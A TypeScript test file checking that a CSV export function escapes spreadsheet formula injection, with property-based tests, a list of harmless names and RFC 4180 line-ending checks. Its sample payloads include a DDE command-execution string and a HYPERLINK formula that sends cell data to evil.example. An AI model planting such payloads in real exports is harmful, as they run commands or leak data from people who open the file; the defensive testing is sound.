import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Cell, csvText } from '#app/domain/audiences/index.ts';
import { readSharedData } from '#tests/support/shared-data.ts';

const read = (text: string): string[][] =>
  parse(text, { relax_column_count: true, record_delimiter: '\r\n' });
const oneCell = (text: string): string => read(csvText([[text, 'end']]))[0]![0]!;
const starts = /^[\s\p{C}\p{Z}]*[=+\-@＝＋－＠﹢﹣﹦﹫]|^[\t\r\n]/u;

const naughty = [
  ...[
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    '＋1',
    '－1',
    '＠1',
    '﹢1',
    '﹣1',
    '﹦1',
    '﹫1',
  ],
  ...[' =1', '\u200b=1', '\ufeff=1', '\u00a0+1', '\u0000=1', '\u3000＝1'],
  `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `"=1+1"`,
];
const harmless = [
  'Mei',
  "O'Neill",
  'a=b',
  '1+1',
  'mei@mail.example',
  '佐藤 花子',
  'a,b',
  'a"b',
  'a\nb',
  'a\rb',
  '',
  "'",
];

describe('a cell that a spreadsheet would run', () => {
  it.each(naughty)('%j is text', (text) => {
    const cell = oneCell(text);
    expect(cell).not.toMatch(starts);
    expect([text, `'${text}`]).toContain(cell);
  });

  const listed = readSharedData('security/blns.json');
  it.skipIf(listed === undefined)('no naughty string begins as a formula, and each comes back', () => {
    const texts: string[] = JSON.parse(listed!);
    const cells = read(csvText(texts.map((text) => [text, 'end'])));
    expect(cells).toHaveLength(texts.length);
    for (const [index, text] of texts.entries()) {
      expect(cells[index]![0]).not.toMatch(starts);
      expect(cells[index]![0]!.replace(/^'/, '')).toBe(text.replace(/^'/, ''));
    }
    expect(texts.filter((text) => starts.test(text)).length).toBeGreaterThan(5);
  });
});

it.each(harmless)('%j stays as it is', (text) => {
  expect(oneCell(text)).toBe(text);
});

it('whatever people are called comes back as it was, but for the apostrophe', { timeout: 30_000 }, () => {
  const anyText = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom(...Array.from('=+-@＝＋\t\r\n",;\' a花\u200b\ufeff')) }),
    fc.constantFrom(...naughty),
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(anyText, anyText, anyText), { minLength: 1, maxLength: 20 }), (rows) => {
      const back = read(csvText(rows));
      const wrong = rows.flatMap((row, at) =>
        row.filter((text, column) => {
          const cell = back[at]?.[column] ?? '(missing)';
          return starts.test(cell) || (cell !== text && cell !== `'${text}`);
        }),
      );
      expect(wrong).toEqual([]);
      expect(back).toHaveLength(rows.length);
    }),
    { numRuns: 200 },
  );
});

it('a number stays a number, also below zero; nothing stays nothing', () => {
  const row: Cell[] = [-12.5, 0, null, 'x'];
  expect(csvText([row])).toBe('-12.5,0,,"x"\r\n');
});

it('lines end as RFC 4180 wants', () => {
  expect(
    csvText([
      ['a', 'b'],
      ['c "d"', 'e\r\nf'],
    ]),
  ).toBe('"a","b"\r\n"c ""d""","e\r\nf"\r\n');
});
